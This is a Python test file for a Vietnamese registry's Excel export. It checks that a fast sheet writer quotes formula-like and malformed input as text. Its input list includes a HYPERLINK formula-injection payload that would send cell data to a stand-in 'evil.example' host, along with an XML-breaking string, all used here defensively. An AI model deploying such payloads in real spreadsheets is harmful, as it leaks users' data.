"""``export.save_workbook`` writes the big sheets' rows without openpyxl's cell objects: the cells
must be those ``core.excel.append_text_row`` gives — value, type, quote prefix — whatever the
clerks typed."""

from __future__ import annotations

import datetime as dt
import decimal
import struct
import unicodedata
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from motcua.core.errors import ValidationFailed
from motcua.core.excel import MAX_CELL_CHARS, append_text_row, text_cell
from motcua.registers import export
from motcua.registers import national_export as ne
from motcua.registers.export import save_workbook

NASTY = [
    None,
    "",
    "Nguyễn Văn An",
    unicodedata.normalize("NFD", "Trần Thị Bích"),
    "  hai đầu có dấu cách  ",
    "   ",
    '=HYPERLINK("http://evil.example/?d="&B2,"Xem")',
    "+84905123456",
    "-HK1",
    "@cán bộ",
    "\t=1+1",
    "a & b < c > d \" e ' f",
    "ký tự\x01 điều khiển\x0b\x1f và \ufffe",
    "x" * (MAX_CELL_CHARS + 10),
    ']]></t></is></c><c r="Z9"><f>1+1</f></c>',
    "số 0123",
    7,
    -3,
    0,
    10**30,
    1.5,
    float("nan"),
    True,
    False,
    dt.date(2026, 7, 1),
    dt.datetime(2026, 7, 1, 9, 30),
    decimal.Decimal("2.50"),
]


def _columns():
    # One column of every kind of value, one of texts only, one of ints with a blank.
    return [
        NASTY,
        [v if isinstance(v, str) else None for v in NASTY],
        [i if i % 3 else None for i in range(len(NASTY))],
    ]


def _reference(path):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Dữ liệu")
    ws.freeze_panes = "A2"
    append_text_row(ws, [text_cell(ws, h, font=Font(bold=True)) for h in ("A", "B", "C")])
    for row in zip(*_columns(), strict=True):
        append_text_row(ws, list(row))
    wb.save(path)


def _fast(path):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Dữ liệu")
    ws.freeze_panes = "A2"
    append_text_row(ws, [text_cell(ws, h, font=Font(bold=True)) for h in ("A", "B", "C")])
    save_workbook(wb, path, {"Dữ liệu": _columns()})


def _cells(path):
    ws = load_workbook(path)["Dữ liệu"]
    return ws.freeze_panes, [
        (c.coordinate, c.value, c.data_type, c.quotePrefix, c.font.b) for row in ws.iter_rows() for c in row
    ]


def test_the_fast_rows_are_the_cells_openpyxl_writes(tmp_path):
    _reference(tmp_path / "ref.xlsx")
    _fast(tmp_path / "fast.xlsx")
    reference, fast = _cells(tmp_path / "ref.xlsx"), _cells(tmp_path / "fast.xlsx")
    assert fast == reference
    # And what that means: no formula anywhere, formula-like texts quoted, numbers stay numbers.
    frozen, cells = fast
    assert frozen == "A2"
    assert all(dtype != "f" for _, _, dtype, _, _ in cells)
    by_ref = {ref: (value, dtype, quoted) for ref, value, dtype, quoted, _ in cells}
    assert by_ref["A8"] == (NASTY[6], "s", True)
    assert by_ref["A12"] == ("\t=1+1", "s", True)
    assert by_ref["A14"] == ("ký tự điều khiển và ", "s", False)
    assert len(by_ref["A15"][0]) == MAX_CELL_CHARS and by_ref["A15"][0].endswith("…")
    assert by_ref["A16"] == (NASTY[14], "s", False)
    assert by_ref["A18"] == (7, "n", False)
    assert by_ref["C3"] == (1, "n", False) and by_ref["C2"][0] is None


def test_a_carriage_return_is_kept_and_quoted(tmp_path):
    # openpyxl without lxml writes a bare CR that XML readers turn into LF; the fast rows keep it.
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Dữ liệu")
    append_text_row(ws, ["đầu"])
    save_workbook(wb, tmp_path / "cr.xlsx", {"Dữ liệu": [["\r\ndòng", "a\rb"]]})
    cells = load_workbook(tmp_path / "cr.xlsx")["Dữ liệu"]
    assert (cells["A2"].value, cells["A2"].data_type, cells["A2"].quotePrefix) == ("\r\ndòng", "s", True)
    assert (cells["A3"].value, cells["A3"].quotePrefix) == ("a\rb", False)


def test_lone_surrogates_are_dropped_not_a_crash(tmp_path):
    # A bad decoding upstream can leave half a surrogate pair; UTF-8 cannot hold it.
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Dữ liệu")
    append_text_row(ws, ["đầu", "hỗn hợp"])
    save_workbook(
        wb, tmp_path / "s.xlsx", {"Dữ liệu": [["Ng\ud800uyễn", "\udfffAn"], ["B\ud83d\udc4eình", 5]]}
    )
    cells = load_workbook(tmp_path / "s.xlsx")["Dữ liệu"]
    assert [cells["A2"].value, cells["A3"].value] == ["Nguyễn", "An"]
    assert [cells["B2"].value, cells["B3"].value] == ["Bình", 5]


def _local_extra(path, name: str) -> bytes:
    with zipfile.ZipFile(path) as book:
        info = book.getinfo(name)
    raw = path.read_bytes()[info.header_offset :]
    name_len, extra_len = struct.unpack("<HH", raw[26:30])
    return raw[30 + name_len : 30 + name_len + extra_len]


def test_the_sheet_entries_are_written_zip64_ready(tmp_path):
    # Their size is unknown when the entry opens: without ZIP64 a sheet past 2 GiB fails at the end.
    _fast(tmp_path / "fast.xlsx")
    extra = _local_extra(tmp_path / "fast.xlsx", "xl/worksheets/sheet1.xml")
    assert extra[:2] == b"\x01\x00"  # the ZIP64 extended information field


def test_past_excels_rows_the_table_goes_on_in_another_sheet(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "MAX_SHEET_ROWS", 3)
    records = [{"person_id": f"P{i}", "record_id": f"R{i}"} for i in range(7)]
    wb = Workbook(write_only=True)
    bodies: dict = {}
    export._table_sheet(
        wb, bodies, "Bản ghi gốc", (("Mã người", 10, "person_id"), ("Mã bản ghi", 14, "record_id")), records
    )
    save_workbook(wb, tmp_path / "t.xlsx", bodies)
    book = load_workbook(tmp_path / "t.xlsx")
    assert book.sheetnames == ["Bản ghi gốc", "Bản ghi gốc (2)", "Bản ghi gốc (3)"]
    sheets = [list(book[name].iter_rows(values_only=True)) for name in book.sheetnames]
    assert all(rows[0] == ("Mã người", "Mã bản ghi") for rows in sheets)
    assert [r[1] for rows in sheets for r in rows[1:]] == [f"R{i}" for i in range(7)]
    assert [len(rows) - 1 for rows in sheets] == [3, 3, 1]
    # The national layout's workbook too.
    rows = [dict.fromkeys(ne._KEYS, "x") | {"stt": i, "n_records": 1} for i in range(4)]
    ne.write_xlsx(rows, tmp_path / "n.xlsx")
    assert load_workbook(tmp_path / "n.xlsx").sheetnames == [ne.SHEET_NAME, f"{ne.SHEET_NAME} (2)"]


def test_a_sheet_body_past_excels_rows_is_refused_with_a_message(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "MAX_SHEET_ROWS", 3)
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Dữ liệu")
    append_text_row(ws, ["đầu"])
    with pytest.raises(ValidationFailed) as caught:
        save_workbook(wb, tmp_path / "x.xlsx", {"Dữ liệu": [["a"] * 4]})
    assert caught.value.message == "Trang «Dữ liệu» có 5 dòng, quá giới hạn 4 dòng một trang của Excel."
